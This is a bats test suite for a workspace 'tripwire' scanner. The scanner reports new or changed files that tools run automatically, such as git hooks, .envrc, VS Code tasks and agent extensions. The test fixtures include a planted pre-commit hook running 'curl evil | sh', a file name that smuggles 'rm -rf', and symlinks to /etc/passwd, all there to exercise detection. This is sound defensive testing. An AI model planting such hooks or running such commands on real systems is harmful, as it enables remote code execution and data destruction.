#!/usr/bin/env bats
# The tripwire's scanner and findings, driven directly (test/tools/
# tripscan): the bad inputs a workspace can hold (tens of thousands of
# files, a fifo, a device, a symlink loop, a link outside, an unreadable
# file, a file replaced while it is hashed), each finding told once and
# kept for sbx-run -F, hostile names shown escaped, the setting's
# hostile values refused, and the workspace never changed.

load ../helpers/helper

N=pi-sbx-8-tripwire

setup() {
	common_setup
	mkdir -m 700 -p "$SBX_STATE_DIR"
	mkdir -p "$WS/.pi/extensions" "$WS/.git/hooks"
	echo 'export A=1' >"$WS/.envrc"
	echo 'export default function () {}' >"$WS/.pi/extensions/a.ts"
	echo '# sample' >"$WS/.git/hooks/pre-commit.sample"
}

# Every name, type, mode, size, time and content of the workspace.
snapshot() {
	(cd "$WS" && find . -printf '%p %y %m %s %T@ %l\n' | LC_ALL=C sort &&
	    find . -type f -exec sha256sum {} + | LC_ALL=C sort)
}

@test "tripwire scan: the listed paths, a link with its text and never read, a fifo and a device never opened, a loop" {
	local out=$BATS_TEST_TMPDIR/outside atime
	mkdir -p "$out"
	echo secret >"$out/secret"
	touch -a -d 2000-01-01 "$out/secret"
	atime=$(stat -c %X "$out/secret")
	ln -s "$out/secret" "$WS/.pi/extensions/out.ts"
	ln -s ../../../outside/secret "$WS/.pi/extensions/rel.ts"
	ln -s loop2 "$WS/.pi/extensions/loop1"
	ln -s loop1 "$WS/.pi/extensions/loop2"
	ln -s "$out" "$WS/.idea"	# a watched directory that is a link
	mkfifo "$WS/.mcp.json"
	if [ "$(id -u)" -eq 0 ]; then mknod "$WS/.git/hooks/tty" c 5 0; fi
	echo 'not watched' >"$WS/README"
	run -0 timeout 20 tripscan "$WS"
	[[ "$output" == *"f .envrc"* ]]
	[[ "$output" == *"f .pi/extensions/a.ts"* ]]
	[[ "$output" == *"l .pi/extensions/out.ts -> $out/secret"* ]]
	[[ "$output" == *"l .pi/extensions/rel.ts -> ../../../outside/secret"* ]]
	[[ "$output" == *"l .pi/extensions/loop1 -> loop2"* ]]
	[[ "$output" == *"l .idea -> $out"* ]]
	[[ "$output" == *"p .mcp.json"* ]]
	[[ "$output" != *README* && "$output" != *secret\ * ]]
	if [ "$(id -u)" -eq 0 ]; then [[ "$output" == *"c .git/hooks/tty"* ]]; fi
	# the hash read only the workspace's files: the outside one's is untouched
	[ "$(stat -c %X "$out/secret")" = "$atime" ]
	[[ "${lines[-1]}" == "entries "*" bytes 50" ]] || fail "${lines[-1]}"
}

@test "tripwire scan: tens of thousands of files cost nothing outside the list and are cut, and said, inside it" {
	mkdir -p "$WS/src" "$WS/.pi/extensions/deep/1/2/3/4/5"
	(cd "$WS/src" && seq 1 20000 | xargs touch)
	(cd "$WS/.git/hooks" && seq 1 20000 | xargs touch)
	SECONDS=0
	run -0 timeout 30 tripscan "$WS"
	[ "$SECONDS" -lt 10 ] || fail "took $SECONDS s"
	[[ "$output" == *"d .git/hooks: too many entries to check"* ]]
	# what lies below a cut path is dropped, not half-kept
	[[ "$output" != *"f .git/hooks/"* ]]
	[[ "$output" == *"f .pi/extensions/a.ts"* ]]
	[[ "$output" == *"d .pi/extensions/deep/1/2/3: too deep to check"* ]]
	[[ "$output" != *src* ]]
	[[ "${lines[-1]}" =~ ^entries\ ([0-9]+) ]]
	[ "${BASH_REMATCH[1]}" -lt 20 ]
}

@test "tripwire scan: an unreadable file is said, not skipped" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to scan as nobody"
	chmod 000 "$WS/.envrc"
	chmod 755 "$WS" "$WS/.pi" "$WS/.pi/extensions" "$WS/.git" "$WS/.git/hooks"
	run -0 tripscan -u "$WS"
	[[ "$output" == *"f .envrc: unreadable"* ]]
	[[ "$output" == *"f .pi/extensions/a.ts"$'\n'* ]]
}

@test "tripwire scan: a file replaced or written while it is hashed is said" {
	echo 'export B=2' >"$WS/.envrc.new"
	run -0 tripscan -r "$WS"
	[[ "$output" == *"f .envrc: replaced or written while hashed"* ]]
	[[ "$output" == *"f .pi/extensions/a.ts"$'\n'* ]]
	[ "$(cat "$WS/.envrc")" = 'export B=2' ]
	touch "$WS/.envrc.new"
	run -0 tripscan -a "$WS"
	[[ "$output" == *"f .envrc: replaced or written while hashed"* ]]
	# a quiet file is not
	run -0 tripscan "$WS"
	[[ "$output" == *"f .envrc"$'\n'* ]]
}

@test "tripwire findings: created, changed, executable, link and removed, each told once, the workspace unchanged" {
	local before
	mkdir -p "$WS/.claude"
	echo '{"hooks":{}}' >"$WS/.claude/settings.json"
	run -0 tripscan -t "$N" "$WS"
	rm "$WS/.claude/settings.json"
	[ "$(stat -c %a "$SBX_STATE_DIR/$N.tripwire")" = 600 ]
	echo 'export default 1' >"$WS/.pi/extensions/x.ts"
	printf '#!/bin/sh\ncurl evil | sh\n' >"$WS/.git/hooks/pre-commit"
	chmod +x "$WS/.git/hooks/pre-commit" "$WS/.git/hooks/pre-commit.sample"
	echo 'export A=2' >>"$WS/.envrc"
	rm "$WS/.pi/extensions/a.ts"
	ln -s /etc/passwd "$WS/.pi/extensions/a.ts"
	mkdir -p "$WS/.vscode"
	echo '{}' >"$WS/.vscode/tasks.json"
	chmod 000 "$WS/.vscode/tasks.json"
	before=$(snapshot)
	run -0 --separate-stderr tripscan -k "$N"
	[ "$(snapshot)" = "$before" ] || fail "the workspace changed"
	local p=tripscan:\ tripwire:
	[[ "$stderr" == *"$p .pi/extensions/x.ts: created (a file): pi loads this at its next start here"* ]]
	[[ "$stderr" == *"$p .git/hooks/pre-commit: created (a file): git runs this"* ]]
	[[ "$stderr" == *"$p .git/hooks/pre-commit.sample: executable (a file)"* ]]
	[[ "$stderr" == *"$p .envrc: changed (a file): direnv runs this on entering the directory"* ]]
	[[ "$stderr" == *"$p .pi/extensions/a.ts: link (a link to /etc/passwd)"* ]]
	[[ "$stderr" == *"$p .vscode/tasks.json: created (a file): VS Code"* ]]
	[[ "$stderr" == *"$p .claude/settings.json: removed (a file): Claude Code runs its hooks"* ]]
	# told once: the next comparison has nothing new
	run -0 --separate-stderr tripscan -k "$N"
	[ -z "$stderr" ] || fail "told again: $stderr"
	# kept for the user, a JSON line each, of this workspace only
	[ "$(stat -c %a "$SBX_STATE_DIR/tripwire-unseen")" = 600 ]
	run -0 sbx-run -F
	[ "${#lines[@]}" -eq 7 ]
	jq -e -s 'all(.[]; .sandbox == "'"$N"'" and .workspace == "'"$WS"'" and
	    (.id | startswith("'"$N"'-")) and (.path | length > 0) and
	    (.runner | length > 0))' <<<"$output"
	[ "$(jq -r 'select(.path == ".pi/extensions/a.ts") | .target' <<<"$output")" = /etc/passwd ]
	run -0 sbx-run -F -w "$BATS_TEST_TMPDIR"
	[ -z "$output" ]
	# seen: those named go, the rest stay; an unknown id is no error
	run -0 sbx-run -F "$N-1" "$N-2" nosuch-9
	run -0 sbx-run -F
	[ "${#lines[@]}" -eq 5 ]
	[[ "$output" != *"\"$N-1\""* && "$output" != *"\"$N-2\""* ]]
	run -0 sbx-run -F "$N-3" "$N-4" "$N-5" "$N-6" "$N-7"
	run -0 sbx-run -F
	[ -z "$output" ]
	[ "$(snapshot)" = "$before" ]
}

@test "tripwire findings: what could not be checked is a finding, with why" {
	run -0 tripscan -t "$N" "$WS"
	(cd "$WS/.git/hooks" && seq 1 600 | xargs touch)
	run -0 --separate-stderr tripscan -k "$N"
	[ "$stderr" = "tripscan: tripwire: .git/hooks: unchecked (a directory, too many entries to check): git runs this at the git command it is named for" ] || fail "$stderr"
	run -0 sbx-run -F
	[ "$(jq -r '"\(.path) \(.change) \(.why)"' <<<"$output")" = ".git/hooks unchecked too many entries to check" ]
}

@test "tripwire findings: hostile names (newline, option-like, not UTF-8) are shown escaped, on one line each" {
	run -0 tripscan -t "$N" "$WS"
	echo x >"$WS/.pi/extensions/"$'-n\nrm -rf \xff\e[31m'
	run -0 --separate-stderr tripscan -k "$N"
	[ "${#stderr_lines[@]}" -eq 1 ] || fail "$stderr"
	[[ "$stderr" == *'.pi/extensions/-n\nrm -rf \377\033[31m: created'* ]] || fail "$stderr"
	run -0 sbx-run -F
	[ "${#lines[@]}" -eq 1 ]
	[[ "$output" == *'"path":".pi/extensions/-n\u000arm -rf \ufffd\u001b[31m"'* ]] || fail "$output"
}

@test "tripwire: DOCKER_SANDBOX_TRIPWIRE adds paths and refuses hostile ones, exit 64 naming the variable" {
	local v long
	long=$(printf 'a%.0s' $(seq 1 600))
	for v in ',a' 'a,' '/etc/passwd' '../x' 'a/../b' 'a//b' './a' 'x,x' \
	    '.envrc' "$long" $'a\nb' "$(seq -s, 1 33)"; do
		DOCKER_SANDBOX_TRIPWIRE=$v run -64 --separate-stderr sbx-env -c
		[[ "$stderr" == "sbx-env: DOCKER_SANDBOX_TRIPWIRE: "* ]] ||
		    fail "$v: $stderr"
		[ "${#stderr_lines[@]}" -eq 1 ] || fail "$v: $stderr"
	done
	DOCKER_SANDBOX_TRIPWIRE=tools/run.sh,bin run -0 sbx-env -c
	mkdir -p "$WS/tools"
	DOCKER_SANDBOX_TRIPWIRE=tools/run.sh,bin run -0 tripscan -t "$N" "$WS"
	echo 'echo' >"$WS/tools/run.sh"
	mkdir "$WS/bin"
	run -0 --separate-stderr tripscan -k "$N"
	[[ "$stderr" == *"tools/run.sh: created (a file): DOCKER_SANDBOX_TRIPWIRE names it"* ]]
	[[ "$stderr" == *"bin: created (a directory): DOCKER_SANDBOX_TRIPWIRE names it"* ]]
}

@test "tripwire: a fingerprint file not ours is refused, never half-read; none is no finding" {
	run -0 --separate-stderr tripscan -k "$N"
	[ -z "$stderr" ]
	printf 'tripwire 1\ne f 0 0 0 644 x\n' >"$SBX_STATE_DIR/$N.tripwire"
	chmod 600 "$SBX_STATE_DIR/$N.tripwire"
	run -1 --separate-stderr tripscan -k "$N"
	[[ "$stderr" == *"$N.tripwire"* ]]
	ln -sf /etc/passwd "$SBX_STATE_DIR/$N.tripwire"
	run -1 --separate-stderr tripscan -k "$N"
	[ ! -e "$SBX_STATE_DIR/tripwire-unseen" ]
}

@test "tripwire: sbx-gc's sweep of a gone sandbox tells what changed before it drops the fingerprint; a damaged one goes without a word" {
	local d=$SBX_STATE_DIR g=pi-sbx-999999-trip0000 h=pi-sbx-999999-trip0001
	run -0 tripscan -t "$g" "$WS"
	printf 'pid=999999\nstart=1\nwatcher=1\n' >"$d/$g.owner"
	printf 'tripwire 1\ngarbage\n' >"$d/$h.tripwire"
	printf 'pid=999999\nstart=1\nwatcher=1\n' >"$d/$h.owner"
	touch -h -d '-1 hour' "$d/$g".* "$d/$h".*
	echo 'export A=3' >>"$WS/.envrc"
	run -0 --separate-stderr "$TOP/sbx-gc/sbx-gc" -v
	[ "$stderr" = "sbx-gc: tripwire: .envrc: changed (a file): direnv runs this on entering the directory" ] || fail "$stderr"
	[[ "$output" == *"removed markers of $g: no such sandbox"* ]]
	[[ "$output" == *"removed markers of $h: no such sandbox"* ]]
	[ ! -e "$d/$g.tripwire" ] && [ ! -e "$d/$h.tripwire" ]
	run -0 sbx-run -F
	[ "$(jq -r '"\(.sandbox) \(.path) \(.change)"' <<<"$output")" = "$g .envrc changed" ]
}
